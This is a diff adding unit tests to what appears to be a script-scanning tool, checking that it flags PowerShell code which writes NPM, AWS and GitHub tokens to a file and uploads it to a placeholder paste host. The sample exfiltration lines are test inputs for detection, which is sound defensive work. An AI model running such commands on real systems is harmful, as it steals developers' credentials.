@@ -507,3 +507,26 @@ describe('git hooks planted by scripts in the repositories they find', () => {
     ).not.toContain('script.persistence');
   });
 });
+
+describe('PowerShell secrets', () => {
+  const rulesOf = (text: string) => analyzeScript(text, 'ps1', true).map((h) => h.rule);
+  it('$env: names are read as the variables they are, written to a file by a cmdlet and uploaded', () => {
+    expect(
+      rulesOf(
+        '"$env:NPM_TOKEN`n$env:AWS_SECRET_ACCESS_KEY" | Out-File c.txt\nInvoke-RestMethod -Uri https://paste.example-logs.net/api -Method Post -InFile c.txt\n',
+      ),
+    ).toContain('script.env-exfil');
+    expect(
+      rulesOf(
+        'Set-Content -Path c.txt -Value $env:GH_TOKEN\nInvoke-WebRequest -Uri https://paste.example-logs.net/api -Method Post -InFile c.txt\n',
+      ),
+    ).toContain('script.env-exfil');
+  });
+  it('quiet: a build log written with Out-File and uploaded to the configured artefact server', () => {
+    expect(
+      rulesOf(
+        'npm run build | Out-File build.log\nInvoke-RestMethod -Uri $env:ARTIFACT_URL -Method Post -InFile build.log\n',
+      ),
+    ).not.toContain('script.env-exfil');
+  });
+});
